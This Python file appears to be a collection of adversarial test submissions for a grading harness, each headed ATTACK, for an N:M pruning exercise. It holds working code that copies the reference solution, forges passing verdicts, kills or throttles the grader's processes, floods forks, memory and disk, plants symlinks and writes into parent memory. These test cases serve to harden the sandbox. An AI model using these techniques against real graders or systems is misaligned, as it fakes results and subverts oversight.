"""Attacks on exercise 1.6, nm_mask: what runs without being called, and what outlives the call."""


### ATTACK runs_in_a_default: A default value is computed when the function is defined, before any grader.
def nm_mask(scores, n=2, m=4, _=__import__("os").system("touch @HOME@/default")):
    return None


### ATTACK runs_in_a_decorator: The decorator is called at import, and gives back the reference's function.
def better(function):
    scope = {}
    exec(open("@ROOT@/solutions/pruning.py").read(), scope)
    return scope["nm_mask"]


@better
def nm_mask(scores, n=2, m=4):
    return None


### ATTACK runs_in_an_annotation: An annotation is computed at import as well.
def nm_mask(scores: open("@HOME@/annotation", "w").write("x"), n: int = 2, m: int = 4):
    return None


### ATTACK runs_in_a_class_body: The body of a helper class is run at import, and cuts the graders short.
class Helper:
    import os

    for number in range(3, 64):
        try:
            os.set_blocking(number, False)
            os.write(number, b'{"finished": true}\n')
        except OSError:
            pass
    os._exit(0)


def nm_mask(scores, n=2, m=4):
    return Helper


### ATTACK runs_in_a_metaclass: A metaclass makes the helper class, and with it whatever it likes.
class Meta(type):
    def __new__(cls, name, bases, body):
        scope = {}
        exec(open("@ROOT@/solutions/pruning.py").read(), scope)
        globals()["right"] = scope["nm_mask"]
        return type.__new__(cls, name, bases, body)


class Helper(metaclass=Meta):
    pass


def nm_mask(scores, n=2, m=4):
    Helper()
    return right(scores, n, m)


### ATTACK runs_at_module_level: A helper's value is computed at import and writes into a folder of the grader's.
PLAN = open("@HOME@/module", "w").write("x")


def nm_mask(scores, n=2, m=4):
    return PLAN


### ATTACK ends_at_import: The value of a constant ends the process before a grader has run.
PLAN = __import__("os")._exit(0)


def nm_mask(scores, n=2, m=4):
    return PLAN


### ATTACK changes_a_given_helper: It stores into attributes of a given function that checks its arguments.
check_weight.__code__ = (lambda *_, **__: None).__code__
check_pattern.__code__ = (lambda *_, **__: None).__code__


def nm_mask(scores, n=2, m=4):
    check_weight(scores)
    check_pattern(n, m, 1)
    raise ValueError("6 5 0")


### ATTACK deletes_late: The object that it returns has a __del__, which runs when the verdict is written.
class Late:
    def __del__(self):
        import os

        for number in range(3, 64):
            try:
                os.set_blocking(number, False)
                os.write(number, b'{"finished": true}\n')
            except OSError:
                pass
        os._exit(0)


def nm_mask(scores, n=2, m=4):
    return Late()


### ATTACK a_thread_goes_on: A thread that is no daemon patches and writes for ever, and hinders the end.
def nm_mask(scores, n=2, m=4):
    import os, threading, time

    def go_on():
        while True:
            for number in range(3, 64):
                try:
                    os.write(number, b"\x00\x00\x00\x02{}")
                except OSError:
                    pass
            time.sleep(0.01)

    threading.Thread(target=go_on, daemon=False).start()
    return None


### ATTACK an_orphan_goes_on: A child of a child in a session of its own, with an empty environment, outlives all.
def nm_mask(scores, n=2, m=4):
    import os, sys

    if not hasattr(nm_mask, "done"):
        nm_mask.done = True
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execve(
                    sys.executable, ["python", "-S", "-c", "import time; time.sleep(99)  # @TOKEN@"], {}
                )
            os._exit(0)
        os.wait()
    return None


### ATTACK a_child_holds_the_pipe: A child that lives on keeps the worker's pipe open, so that no end ever comes.
def nm_mask(scores, n=2, m=4):
    import os, time

    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
    os._exit(1)


### ATTACK deaf_to_signals: It ignores every signal, cancels faulthandler, and computes for ever.
def nm_mask(scores, n=2, m=4):
    import faulthandler, signal, sys

    faulthandler.cancel_dump_traceback_later()
    faulthandler.disable()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    sys.setswitchinterval(1e6)
    while True:
        pass


### ATTACK sleeps: It uses no time of the processor at all, and never comes back.
def nm_mask(scores, n=2, m=4):
    import time

    while True:
        time.sleep(1000)


### ATTACK stops_itself: It stops its own process, which then neither ends nor computes.
def nm_mask(scores, n=2, m=4):
    import os, signal

    os.kill(os.getpid(), signal.SIGSTOP)
    return None


### ATTACK lifts_its_limits: It raises every limit, and as root may; then it takes 3 GB.
def nm_mask(scores, n=2, m=4):
    import resource

    for name in dir(resource):
        if name.startswith("RLIMIT_"):
            for limit in (resource.RLIM_INFINITY, resource.getrlimit(getattr(resource, name))[1]):
                try:
                    resource.setrlimit(getattr(resource, name), (limit, limit))
                    break
                except (ValueError, OSError):
                    pass
    kept = [torch.zeros(50_000_000).add_(1) for _ in range(15)]
    return kept[0] > 0


### ATTACK ends_its_parent: It ends the process that judges it, and its own group.
def nm_mask(scores, n=2, m=4):
    import os, signal

    os.kill(os.getppid(), signal.SIGTERM)
    os.killpg(os.getppid(), signal.SIGTERM)
    return None


### ATTACK ends_every_process_of_the_grading: It looks through /proc for what has the same mark as itself.
def nm_mask(scores, n=2, m=4):
    import glob, os, signal

    mine = b"MINICOMPRESS_PROCESS=" + os.environb[b"MINICOMPRESS_PROCESS"]
    for file in glob.glob("/proc/[0-9]*/cmdline"):
        number = int(file.split("/")[2])
        if number != os.getpid() and mine in open(file.replace("cmdline", "environ"), "rb").read():
            os.kill(number, signal.SIGTERM)
    return None


### ATTACK many_processes: It forks until it is stopped.
def nm_mask(scores, n=2, m=4):
    import os, time

    for _ in range(300):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
    return None


### ATTACK much_memory: It takes memory until there is none left.
def nm_mask(scores, n=2, m=4):
    kept = []
    for _ in range(20):
        kept.append(torch.ones(50_000_000))  # 200 MB
    return kept[0] > 0


### ATTACK fills_the_disk: It writes files into every folder that it can write to.
def nm_mask(scores, n=2, m=4):
    import os, tempfile

    for folder in {os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "@HOME@"}:
        try:
            for number in range(4):
                with open(f"{folder}/fill-@TOKEN@-{number}", "wb") as file:
                    for _ in range(50):
                        file.write(bytes(1_000_000))
        except OSError:
            pass
    return None


### ATTACK plants_links: Links in the temporary folders that lead to the grader's files, for others to write through.
def nm_mask(scores, n=2, m=4):
    import os, tempfile

    names = (
        "results.json",
        "events",
        "complaints",
        "files",
        "temporary",
        "verdict.json",
        "out.json",
        "source.py",
    )
    for folder in {os.getcwd(), os.path.dirname(os.getcwd()), tempfile.gettempdir()}:
        for name in names if folder.startswith(("/tmp/", "/var/")) else ():
            try:
                if os.path.lexists(f"{folder}/{name}"):
                    os.rename(f"{folder}/{name}", f"{folder}/{name}.{os.getpid()}")
                os.symlink("@HOME@/precious", f"{folder}/{name}")
            except OSError:
                pass
    return None


### ATTACK leaves_a_module_behind: It writes a sitecustomize and bytecode where the next process would read them.
def nm_mask(scores, n=2, m=4):
    import os

    folders = ["@ROOT@", "@ROOT@/tests/graders/__pycache__", os.path.expanduser("~"), "/tmp"]
    folders += [os.getcwd(), os.path.dirname(os.getcwd())]
    for folder in folders:
        try:
            with open(f"{folder}/left_by_@TOKEN@.py", "w") as file:
                file.write("raise SystemExit(0)\n")
        except OSError:
            pass
    return None


### ATTACK makes_a_connection: It tells somebody on the network what it was given, and asks for the answer.
def nm_mask(scores, n=2, m=4):
    import socket

    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as server:
        server.sendall(repr(scores.tolist()).encode())
        return torch.tensor(list(server.recv(scores.numel())), dtype=torch.bool).view(scores.shape)


### ATTACK another_loader: It finds the loader of native code and asks the C library for the file.
def nm_mask(scores, n=2, m=4):
    import ctypes

    library = ctypes.CDLL(None, use_errno=True)
    number = library.open(b"@ROOT@/solutions/pruning.py", 0)
    buffer = ctypes.create_string_buffer(1_000_000)
    length = library.read(number, buffer, 1_000_000)
    scope = {}
    exec(buffer.raw[: max(length, 0)].decode(), scope)
    return scope["nm_mask"](scores, n, m)


### ATTACK overwrites_the_verdict: An orphan finds where the judge writes, and writes there after it.
def nm_mask(scores, n=2, m=4):
    import json, os, time

    if not hasattr(nm_mask, "done"):
        nm_mask.done = True
        words = open(f"/proc/{os.getppid()}/cmdline").read().split("\0")
        files = [word for word in words if word.startswith("/")]
        graders = [
            {"name": f"g{k}", "title": "x", "passed": True, "soft": False, "message": ""} for k in range(23)
        ]
        if os.fork() == 0:
            os.setsid()
            end = time.monotonic() + 30
            while time.monotonic() < end:
                for file in files:
                    if file.endswith(".json") and (
                        not os.path.exists(file) or '"g1"' not in open(file).read()
                    ):
                        with open(file, "w") as out:
                            json.dump({"graders": graders, "message": "", "layers": {}}, out)
                time.sleep(0.001)
            os._exit(0)
    return None


### ATTACK changes_the_modes: Who may not read or write a file may still change its mode, its owner and its time.
def nm_mask(scores, n=2, m=4):
    import os

    for act in (lambda f: os.utime(f, (0, 0)), lambda f: os.chown(f, 65534, 65534), lambda f: os.chmod(f, 0)):
        for file in ("@HOME@/precious", "@HOME@"):
            try:
                act(file)
            except OSError:
                pass
    return None


### ATTACK limits_its_parent: It gives its parent no time, no files and no priority.
def nm_mask(scores, n=2, m=4):
    import os, resource

    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0))
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
    return None


### ATTACK writes_into_the_parents_memory: A process of the same user may be changed through /proc, or stopped and led.
def nm_mask(scores, n=2, m=4):
    import ctypes, os

    parent = os.getppid()
    for line in open(f"/proc/{parent}/maps").read().splitlines():
        if "[heap]" in line:
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            with open(f"/proc/{parent}/mem", "r+b", buffering=0) as memory:
                memory.seek(first)
                memory.write(bytes(last - first))
    return ctypes.CDLL(None).ptrace(16, parent, 0, 0)
